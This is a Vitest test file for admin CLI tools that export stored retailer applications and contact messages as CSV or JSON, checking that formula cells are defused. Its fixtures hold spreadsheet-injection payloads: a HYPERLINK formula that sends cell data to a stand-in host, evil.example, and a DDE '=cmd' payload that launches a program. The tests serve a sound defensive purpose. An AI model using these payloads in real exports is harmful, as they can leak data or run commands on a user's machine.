// The admin CLIs (`rm5 applications`, `rm5 contact`) against a real Postgres: the export
// round-trips what the API stored, CSV included, and formula cells are defused. Exports run as the
// real binary (a stream on standard output, a file written atomically); the table, help and usage
// errors run in this process (rm5-here.ts).
import { randomUUID } from 'node:crypto'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { openDatabase } from '../../server/db/database.server.ts'
import { silentLogger } from '../../server/db/logger.server.ts'
import { createTestApp, type TestApp } from '../helpers/app.ts'
import { parseCsv, spreadsheetSafe } from '../helpers/csv.ts'
import { withOwnedEmbeddedPostgres } from '../helpers/owned-embedded-postgres.ts'
import { rm5Here } from '../helpers/rm5-here.ts'
import { runRm5 } from '../helpers/run-cli.ts'
import { postJson } from '../helpers/submissions.ts'

// Each test spawns the CLI (tsx + Prisma start-up, seconds on a busy machine), some several times.
vi.setConfig({ testTimeout: 180_000 })

const cli = (script: 'applications' | 'contact', args: string[], env: Record<string, string> = {}) =>
  runRm5([script, ...args], { DATABASE_URL: t.env.DATABASE_URL, DATA_DIR: t.env.DATA_DIR, ...env })
const here = (script: 'applications' | 'contact', args: string[]) =>
  rm5Here([script, ...args], { DATABASE_URL: t.env.DATABASE_URL, DATA_DIR: t.env.DATA_DIR })

const applications = [
  {
    companyName: 'Comma, "Quote" & Sons',
    businessType: 'Grocery Store',
    numberOfLocations: 2,
    contactName: 'Zoë Ölander 山田',
    email: 'zoe@example.com',
    phone: '(512) 555-0142',
    averageOrderValue: 42.5,
    monthlyOrderVolume: 900,
    currentDeliveryMethod: 'In-house delivery',
    additionalInfo: 'First line, with comma\nSecond "quoted" line\n\nÜnïcödé 🚚 — done',
  },
  {
    companyName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    businessType: 'Other Retail',
    numberOfLocations: 0,
    contactName: '@risk Person',
    email: 'risk@example.com',
    phone: '+44 20 7946 0958',
    averageOrderValue: '',
    monthlyOrderVolume: '',
    currentDeliveryMethod: '',
    additionalInfo: '-2+3 looks like a formula\r\nand +1 too',
  },
  {
    companyName: 'Plain Store',
    businessType: 'Coffee Shop',
    numberOfLocations: 1,
    contactName: 'Sam Lee',
    email: 'sam@example.com',
    phone: '512 555 0199',
    averageOrderValue: 7,
    monthlyOrderVolume: 30,
    currentDeliveryMethod: 'Other',
    additionalInfo: '',
  },
]

let t: TestApp
let outDir: string

beforeAll(async () => {
  t = await createTestApp()
  outDir = await mkdtemp(join(tmpdir(), 'rm5-export-'))
  for (const body of applications) {
    const res = await postJson(t.app, '/api/applications', body, { key: randomUUID() })
    expect(res.statusCode, res.body).toBe(201)
  }
  for (const body of [
    { name: 'Ada, Countess', email: 'ada@example.com', company: '', message: 'Hi "there",\nsecond line ✓' },
    { name: '+Plus Start', email: 'plus@example.com', company: '@Corp', message: '=cmd|" /C calc"!A0' },
  ]) {
    const res = await postJson(t.app, '/api/contact', body)
    expect(res.statusCode, res.body).toBe(201)
  }
}, 120_000)

afterAll(async () => {
  await t?.close()
  if (outDir) await rm(outDir, { recursive: true, force: true })
})

const storedApplications = () =>
  t.db.prisma.retailerApplication.findMany({ orderBy: [{ createdAt: 'asc' }, { id: 'asc' }] })

const text = (value: string | null) => (value === null ? '' : spreadsheetSafe(value))

describe('npm run applications -- export', () => {
  it('writes RFC 4180 CSV that parses back to the stored rows, formulas defused', async () => {
    const run = await cli('applications', ['export', '--format', 'csv'])
    expect(run.code, run.stderr).toBe(0)
    expect(run.stdout.endsWith('\r\n')).toBe(true)
    expect(run.stdout.split('\r\n')[0]).toBe(
      'id,createdAt,companyName,businessType,numberOfLocations,contactName,email,phone,averageOrderValue,monthlyOrderVolume,currentDeliveryMethod,additionalInfo',
    )
    const [, ...records] = parseCsv(run.stdout)
    const rows = await storedApplications()
    expect(records).toEqual(
      rows.map((r) => [
        r.id,
        r.createdAt.toISOString(),
        text(r.companyName),
        text(r.businessType),
        String(r.numberOfLocations),
        text(r.contactName),
        text(r.email),
        text(r.phone),
        r.averageOrderValue?.toFixed(2) ?? '',
        r.monthlyOrderVolume === null ? '' : String(r.monthlyOrderVolume),
        text(r.currentDeliveryMethod),
        text(r.additionalInfo),
      ]),
    )
    // The tricky values really are in there, and the dangerous ones start with an apostrophe.
    const flat = records.flat()
    expect(flat).toContain('Comma, "Quote" & Sons')
    expect(flat).toContain('Zoë Ölander 山田')
    expect(flat).toContain('First line, with comma\nSecond "quoted" line\n\nÜnïcödé 🚚 — done')
    expect(flat).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Click")')
    expect(flat).toContain("'@risk Person")
    expect(flat).toContain("'-2+3 looks like a formula\nand +1 too")
    expect(flat).toContain("'+15125550142")
    expect(flat).toContain('42.50')
    expect(flat.some((cell) => /^[=+\-@]/.test(cell))).toBe(false)
  })

  it('writes JSON with the raw values to --out, atomically', async () => {
    const file = join(outDir, 'applications.json')
    const run = await cli('applications', ['export', '--format', 'json', '--out', file])
    expect(run.code, run.stderr).toBe(0)
    expect(run.stderr).toContain(`Exported 3 applications to ${file}`)
    expect(run.stdout).toBe('')
    const exported = JSON.parse(await readFile(file, 'utf8'))
    const rows = await storedApplications()
    expect(exported).toEqual(
      rows.map(({ idempotencyKey: _key, ...r }) => ({
        ...r,
        createdAt: r.createdAt.toISOString(),
        averageOrderValue: r.averageOrderValue === null ? null : Number(r.averageOrderValue),
      })),
    )
    expect(exported[1].companyName).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")')
    expect((await readdir(outDir)).filter((name) => name.endsWith('.tmp'))).toEqual([])
  })

  it('filters with --since and writes an empty but valid export', async () => {
    const future = await cli('applications', ['export', '--format', 'json', '--since', '2999-01-01'])
    expect(future.code, future.stderr).toBe(0)
    expect(JSON.parse(future.stdout)).toEqual([])
    const csv = await cli('applications', ['export', '--since', '2000-01-01'])
    expect(parseCsv(csv.stdout)).toHaveLength(4)
  })

  it('pages through large tables in a stable order', async () => {
    const db = await openDatabase(
      { DATABASE_URL: t.env.DATABASE_URL, DATA_DIR: t.env.DATA_DIR },
      silentLogger,
    )
    try {
      const createdAt = new Date('2001-01-01T00:00:00Z') // all equal: the id breaks the ties
      await db.prisma.contactMessage.createMany({
        data: Array.from({ length: 1203 }, (_, i) => ({
          name: `Bulk ${i}`,
          email: `bulk${i}@example.com`,
          message: `Message ${i}`,
          createdAt,
        })),
      })
      const run = await cli('contact', [
        'export',
        '--format',
        'csv',
        '--since',
        '2001-01-01',
        '--out',
        join(outDir, 'bulk.csv'),
      ])
      expect(run.code, run.stderr).toBe(0)
      const [, ...records] = parseCsv(await readFile(join(outDir, 'bulk.csv'), 'utf8'))
      const ids = records.map((r) => r[0])
      expect(records.length).toBe(1203 + 2)
      expect(new Set(ids).size).toBe(ids.length)
    } finally {
      await db.prisma.contactMessage.deleteMany({ where: { name: { startsWith: 'Bulk ' } } })
      await db.close()
    }
  })
})

describe('npm run contact -- export', () => {
  it('round-trips the messages through CSV', async () => {
    const run = await cli('contact', ['export', '--format', 'csv'])
    expect(run.code, run.stderr).toBe(0)
    const [header, ...records] = parseCsv(run.stdout)
    expect(header).toEqual(['id', 'createdAt', 'name', 'email', 'company', 'message'])
    const rows = await t.db.prisma.contactMessage.findMany({ orderBy: [{ createdAt: 'asc' }, { id: 'asc' }] })
    expect(records).toEqual(
      rows.map((r) => [
        r.id,
        r.createdAt.toISOString(),
        text(r.name),
        text(r.email),
        text(r.company),
        text(r.message),
      ]),
    )
    expect(records.flat()).toContain('Hi "there",\nsecond line ✓')
    expect(records.flat()).toContain('\'=cmd|" /C calc"!A0')
  })
})

describe('list', () => {
  it('prints the newest rows as a table with a count', async () => {
    const run = await here('applications', ['list'])
    expect(run.code, run.stderr).toBe(0)
    const lines = run.stdout.split('\n')
    expect(lines[0]).toMatch(/^Received \(UTC\)\s+Company\s+Type/)
    expect(run.stdout).toContain('Plain Store')
    expect(run.stdout).toContain('3 applications.')
    const limited = await here('applications', ['list', '--limit', '1'])
    expect(limited.stdout).toContain('Showing the newest 1 of 3 applications.')
    const contact = await here('contact', ['list', '--since', '2999-01-01'])
    expect(contact.stdout.trim()).toBe('No contact messages since 2999-01-01T00:00:00.000Z.')
  })
})

describe('usage and failures', () => {
  it('prints help and exits 0', async () => {
    for (const script of ['applications', 'contact'] as const) {
      const run = await here(script, ['--help'])
      expect(run.code).toBe(0)
      expect(run.stdout).toMatch(new RegExp(`^Usage: rm5 ${script} `))
      expect(run.stdout).toContain('CSV is RFC 4180')
      const exportHelp = await here(script, ['export', '--help'])
      expect(exportHelp.code).toBe(0)
      expect(exportHelp.stdout).toContain(
        '--format <format>  The format (choices: "csv", "json", default: "csv")',
      )
    }
  })

  it('exits 2 on a usage error, naming it', async () => {
    for (const args of [
      [],
      ['frobnicate'],
      ['list', '--since', 'yesterday'],
      ['export', '--format', 'xml'],
      ['export', '--nope'],
    ]) {
      const run = await here('applications', args)
      expect(run.code, args.join(' ')).toBe(2)
      expect(run.stderr).toMatch(/^(Usage: )?rm5 applications[ :]/)
      expect(run.stderr).toContain('--help')
    }
  })

  it('exits 1 naming the --out path as typed and what is wrong, before opening the database', async () => {
    const file = join(outDir, 'no-such-folder', 'x.csv')
    // An embedded database that cannot open (its DATA_DIR is a file): opening it first would fail otherwise.
    const dataDir = join(outDir, 'data-dir-file')
    await writeFile(dataDir, '')
    const run = await rm5Here(['applications', 'export', '--format', 'csv', '--out', file], {
      DATABASE_URL: '',
      DATA_DIR: dataDir,
    })
    expect(run.code).toBe(1)
    expect(run.stderr.trim()).toBe(
      `rm5 applications export: Cannot write ${file}: the folder ${join(outDir, 'no-such-folder')} does not exist; create it first.`,
    )
  })

  it('exits 1 with one clear line when the database is unreachable, leaving no file', async () => {
    const file = join(outDir, 'never.csv')
    const run = await cli('applications', ['export', '--out', file], {
      DATABASE_URL: 'postgres://postgres@127.0.0.1:1/nowhere',
    })
    expect(run.code).toBe(1)
    expect(run.stderr).toMatch(/Could not reach DATABASE_URL/)
    expect(run.stderr).not.toMatch(/at .*\.ts:\d+/)
    expect(await readdir(outDir)).not.toContain('never.csv')
  })
})

describe('embedded Postgres', () => {
  it("attaches to the running server's embedded Postgres through DATA_DIR/pg.json", async () => {
    await withOwnedEmbeddedPostgres(async ({ url, dataDir }) => {
      const db = await openDatabase({ DATABASE_URL: url, DATA_DIR: dataDir }, silentLogger)
      await db.prisma.contactMessage.create({
        data: { name: 'Embedded', email: 'e@example.com', message: 'Hello' },
      })
      await db.close()
      const run = await cli('contact', ['export', '--format', 'json'], {
        DATABASE_URL: '',
        DATA_DIR: dataDir,
      })
      expect(run.code, run.stderr).toBe(0)
      expect(JSON.parse(run.stdout)).toMatchObject([{ name: 'Embedded', message: 'Hello' }])
      // The owner's database still answers after the CLI has gone.
      const again = await openDatabase({ DATABASE_URL: url, DATA_DIR: dataDir }, silentLogger)
      expect(await again.prisma.contactMessage.count()).toBe(1)
      await again.close()
    })
  })
})
